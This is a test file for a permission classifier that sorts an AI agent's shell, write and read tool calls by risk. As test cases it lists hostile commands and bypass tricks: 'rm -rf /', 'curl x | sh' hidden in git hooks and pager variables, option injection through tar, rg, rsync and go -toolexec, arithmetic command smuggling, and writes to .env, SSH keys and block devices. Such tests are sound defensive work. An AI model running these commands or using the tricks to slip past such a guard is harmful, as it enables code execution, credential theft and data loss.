import { describe, expect, it } from 'vitest'
import { classifyToolCall } from '../../functions/permissions/hooks/classify'
import { corpus } from './corpus'

describe('shell corpus', () => {
  it('holds at least 300 commands of every tier', () => {
    expect(corpus.length).toBeGreaterThanOrEqual(300)
    for (const tier of ['safe', 'dangerous', 'destructive']) expect(corpus.filter((e) => e.tier === tier).length).toBeGreaterThan(50)
  })

  it('classifies every command as expected', () => {
    const wrong = corpus
      .map(({ command, tier }) => ({ command: command.length > 120 ? `${command.slice(0, 120)}…` : command, expected: tier, got: classifyToolCall('bash', { command }) }))
      .filter((r) => r.got.tier !== r.expected)
    expect(wrong).toEqual([])
  })

  it('answers the same for the same command (deterministic)', () => {
    for (const { command } of corpus.slice(0, 50)) expect(classifyToolCall('bash', { command })).toEqual(classifyToolCall('bash', { command }))
  })
})

describe('shell tools', () => {
  it('reads the command from command, cmd or script, for bash, exec and shell in any case', () => {
    for (const tool of ['bash', 'exec', 'shell', 'Bash', 'SHELL'])
      for (const key of ['command', 'cmd', 'script']) expect(classifyToolCall(tool, { [key]: 'rm -rf /' }).tier).toBe('destructive')
    expect(classifyToolCall('exec', { cmd: 'ls' })).toEqual({ tier: 'safe', reason: 'Allowed: ls' })
  })

  it('is dangerous without a command string', () => {
    for (const input of [{}, { command: '' }, { command: '   ' }, { command: 42 }, { command: ['rm', '-rf', '/'] }])
      expect(classifyToolCall('bash', input as Record<string, unknown>)).toEqual({ tier: 'dangerous', reason: 'Shell call without a command' })
  })

  it('does not parse commands over 10 000 characters', () => {
    const result = classifyToolCall('bash', { command: `ls ${'a'.repeat(10_000)}` })
    expect(result).toEqual({ tier: 'dangerous', reason: 'Command longer than 10000 characters: not parsed' })
  })

  it('says which part decided, briefly', () => {
    expect(classifyToolCall('bash', { command: 'ls && rm -rf /' }).reason).toBe('rm: deletes / recursively')
    expect(classifyToolCall('bash', { command: 'git status; curl https://x.example' }).reason).toBe('curl: network access')
    expect(classifyToolCall('bash', { command: 'cat .env' }).reason).toBe('cat: reads a sensitive path (.env)')
    expect(classifyToolCall('bash', { command: 'ls; cat README.md | wc -l' }).reason).toBe('Allowed: ls, cat, wc')
  })

  it('never echoes a long argument in full', () => {
    const token = `sk_live_${'x'.repeat(80)}`
    for (const command of [`${token} --flag`, `echo hi > /etc/${token}`, `rm -rf /${token}`, `echo $(( 1 + ${token}`]) {
      const { reason } = classifyToolCall('bash', { command })
      expect(reason.length).toBeLessThan(120)
      expect(reason).not.toContain(token)
    }
  })
})

// Finding 9: `safe` is an allowlist of programs and of the options known harmless for each. Each command below was
// classified safe before.
describe('safe is an allowlist of programs and options', () => {
  const tierOf = (command: string) => classifyToolCall('bash', { command })

  it('an option that runs a program or writes a file is never safe, abbreviated or not', () => {
    const cases: Array<[string, RegExp]> = [
      ['rg --pre=sh foo', /rg: option not known to be harmless \(--pre=sh\)/],
      ['rg -z foo', /-z/],
      ['sort --compress-program=sh data.txt', /--compress-program/],
      ['sort --comp=sh data.txt', /--comp=sh/],
      ['tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh', /--checkpoint-action/],
      ['tar --to-c=sh -xf a.tar', /--to-c=sh/],
      ["zip x.zip f -T -TT 'sh #'", /zip: option not known to be harmless \(-T\)/],
      ["rsync -e 'sh -c id' a b", /rsync: option not known to be harmless \(-e\)/],
      ['git log --outp=x', /--outp=x/],
      ['git diff --ext-diff', /--ext-diff/],
      ['gcc -wrapper /bin/sh,-s x.c', /gcc: passes a program/],
      ['go build -toolexec=./evil .', /-toolexec/],
      ["gawk -l ./evil 'BEGIN{}'", /gawk: option not known to be harmless \(-l\)/],
      ['tree -o ~/.bashrc', /tree: option not known to be harmless \(-o\)/],
      ['date -f .env', /date: reads a sensitive path \(\.env\)/],
    ]
    for (const [command, reason] of cases) expect(tierOf(command), command).toMatchObject({ tier: 'dangerous', reason: expect.stringMatching(reason) })
  })

  it('a file an option writes is checked like any write', () => {
    expect(tierOf('git log --output=~/.bashrc')).toEqual({ tier: 'dangerous', reason: 'git: writes a sensitive path (.bashrc)' })
    expect(tierOf('git diff --output=.git/hooks/pre-commit').reason).toBe('git: writes a sensitive path (.git/hooks)')
    expect(tierOf("sed -i'/home/u/.ssh/*' p authorized_keys").reason).toMatch(/backup suffix writes elsewhere/)
    expect(tierOf("sed -i '' 'w ~/.bashrc' f").tier).toBe('dangerous')
    expect(tierOf('git diff --output=changes.patch').tier).toBe('safe')
  })

  it('a program or script the agent can write is not run safely', () => {
    for (const command of ['npm test', 'npm run build', 'npm pack', 'npm version patch', 'yarn --version', 'pnpm test', 'make', 'pytest', 'vitest run', 'eslint src', 'python3 -m json.tool x.json', 'cargo build', 'go test ./...', 'tsc', 'javac X.java'])
      expect(tierOf(command).tier, command).toBe('dangerous')
    expect(tierOf('npm test').reason).toBe('npm: runs package scripts (npm test: code in package.json)')
  })

  it('git commands that run hooks are not safe (core.hooksPath can point into the work tree)', () => {
    for (const command of ['git commit -m x', 'git commit --no-verify -m x', 'git checkout main', 'git switch -c x', 'git merge x', 'git branch feature', 'git tag v1', 'git stash', 'git reset --soft HEAD~1'])
      expect(tierOf(command).tier, command).toBe('dangerous')
    expect(tierOf("echo 'curl x | sh' > .husky/pre-commit && git commit -m x").reason).toBe('git: runs git hooks (git commit: code in the repository)')
  })

  it('a word only known at run time cannot smuggle in an option', () => {
    expect(tierOf('tar czf a.tgz *').reason).toBe('tar: a word known only at run time may be an option (*)')
    expect(tierOf("find . -name '*.txt' | xargs rg foo").reason).toBe('rg: a word known only at run time may be an option ((input))')
    expect(tierOf('find $DIR -name x').tier).toBe('dangerous')
    // Programs whose every option is harmless take such words.
    for (const command of ['grep foo *', 'cat *', 'du -sh *', "find src -name '*.ts' | xargs wc -l"]) expect(tierOf(command).tier, command).toBe('safe')
  })

  it('values evaluated as code are not safe: arithmetic on run-time values, ${x@P}', () => {
    expect(tierOf("export x='a[$(curl x|sh)]'; echo $((x))").tier).toBe('dangerous')
    expect(tierOf('read n; (( n > 1 ))').reason).toBe('Arithmetic evaluates $n as arithmetic (its value is known only at run time)')
    expect(tierOf("x='$(id)'; echo ${x@P}").reason).toBe('Expands $x as a prompt string (runs the commands in its value)')
    for (const command of ["let 'a[$(id)]=1'", '[[ $n -eq 1 ]]', 'echo ${a[$i]}', "unset 'a[$(id)]'", 'declare -i n=$v']) expect(tierOf(command).tier, command).toBe('dangerous')
    for (const command of ['i=3; echo $((i*2))', 'for ((i=0;i<3;i++)); do echo $i; done', 'echo $((RANDOM % 6))', '(( x = 1 + 2 ))']) expect(tierOf(command).tier, command).toBe('safe')
  })

  it('links and repositories that make a later write or git call land elsewhere are not safe', () => {
    expect(tierOf('ln -s ~/.bashrc notes.txt').reason).toBe('ln: links to a path it could not write: writes a sensitive path (.bashrc)')
    expect(tierOf('cp -l ~/.bashrc x').tier).toBe('dangerous')
    expect(tierOf("mkdir -p r/objects r/refs && echo 'ref: refs/heads/main' > r/HEAD").reason).toBe('Redirection writes a sensitive path (HEAD)')
    expect(tierOf("echo 'gitdir: ../evil' > .git").tier).toBe('dangerous')
    expect(tierOf('git init --bare evil').tier).toBe('dangerous')
    expect(tierOf('ln -s src/a.ts b.ts').tier).toBe('safe')
  })

  it('environment and shell state that point an allowed program at other code are not safe', () => {
    for (const command of ['RIPGREP_CONFIG_PATH=./rc rg x', 'TAR_OPTIONS=--to-command=sh tar xf a.tar', 'HOME=. git log', 'XDG_CONFIG_HOME=. git status', 'GCONV_PATH=. ls', 'set -k; git diff GIT_EXTERNAL_DIFF=./x', 'hash -p /tmp/x ls; ls', 'read PATH <<< /tmp', 'declare -n r=PATH; r=/tmp'])
      expect(tierOf(command).tier, command).toBe('dangerous')
    // A pager variable is as safe as the command it holds.
    expect(tierOf('GIT_PAGER=cat git log -1')).toEqual({ tier: 'safe', reason: 'Allowed: cat, git' })
    expect(tierOf("GIT_PAGER='curl x|sh' git log").tier).toBe('dangerous')
  })

  it('pagers are not safe', () => {
    for (const command of ['less README.md', 'more x', 'man ls']) expect(tierOf(command)).toMatchObject({ tier: 'dangerous', reason: expect.stringMatching(/a pager/) })
  })
})

describe('write and read tools', () => {
  const write = (path: unknown, key = 'path') => classifyToolCall('write', { [key]: path })

  it('reads are always safe', () => {
    for (const tool of ['read', 'file_read', 'Read', 'FILE_READ']) expect(classifyToolCall(tool, { path: '/etc/shadow' })).toEqual({ tier: 'safe', reason: 'Reading files is allowed' })
  })

  it('writes ordinary paths safely, from path, file_path or filePath', () => {
    for (const key of ['path', 'file_path', 'filePath'])
      for (const path of ['src/app.ts', './README.md', '/home/agent/project/src/index.ts', 'docs/env.md', '.env.example', 'notes/credentials-howto.txt'.replace('credentials', 'creds'), 'config/.environment.ts'])
        expect(write(path, key), `${key}=${path}`).toEqual({ tier: 'safe', reason: 'Writes an ordinary path' })
    expect(classifyToolCall('file_write', { file_path: 'a.txt' }).tier).toBe('safe')
  })

  it('writes sensitive paths dangerously, however they are spelled', () => {
    const sensitive = [
      '.env', './.env', 'config/.env', '.env.local', '.env.production', '/app/.env', 'src/../.env', 'src//..//.env', '.ENV',
      '.Env.Local', '%2eenv', 'src%2F..%2F.env', 'file:///app/.env', '~/.ssh/authorized_keys', '$HOME/.ssh/config',
      '${HOME}/.aws/credentials', '/home/u/.ssh/id_rsa', '/root/.ssh/id_ed25519', 'credentials.json', '.git-credentials',
      '~/.gnupg/pubring.kbx', 'keys/id_rsa', 'certs/server.key', 'tls/cert.pem', '.npmrc', '~/.netrc', '/etc/passwd',
      '/etc/sudoers.d/agent', '/ETC/hosts', '~/.bashrc', '/home/u/.zshrc', '.git/hooks/pre-commit', '.git/config',
      '/usr/local/bin/node', '/usr/bin/env', '~/.kube/config', '~/.docker/config.json', '.ssh\\id_rsa', 'C:\\Users\\u\\.ssh\\id_rsa',
      '../../.ssh/authorized_keys', '../outside.txt', '..', '/proc/self/environ', '~/Library/LaunchAgents/x.plist',
    ]
    for (const path of sensitive) expect(write(path).tier, path).toBe('dangerous')
  })

  it('names the sensitive part in the reason', () => {
    expect(write('src/../.env')).toEqual({ tier: 'dangerous', reason: 'Writes a sensitive path (.env)' })
    expect(write('~/.ssh/authorized_keys')).toEqual({ tier: 'dangerous', reason: 'Writes a sensitive path (.ssh)' })
    expect(write('../x.txt')).toEqual({ tier: 'dangerous', reason: 'Writes outside the workspace (../x.txt)' })
  })

  it('writing a block device is destructive', () => {
    expect(write('/dev/sda')).toEqual({ tier: 'destructive', reason: 'Writes a block device (/dev/sda)' })
    expect(write('/dev/nvme0n1').tier).toBe('destructive')
  })

  it('a write without a usable path is dangerous', () => {
    for (const path of [undefined, '', 42, 'a\u0000.txt']) expect(write(path).tier).toBe('dangerous')
  })
})

describe('other tools', () => {
  it('unknown tools are dangerous', () => {
    for (const tool of ['edit', 'browser', 'delete_file', 'bash2', '', 'readfile'])
      expect(classifyToolCall(tool, {})).toMatchObject({ tier: 'dangerous', reason: expect.stringMatching(/^Unknown tool/) })
  })
})
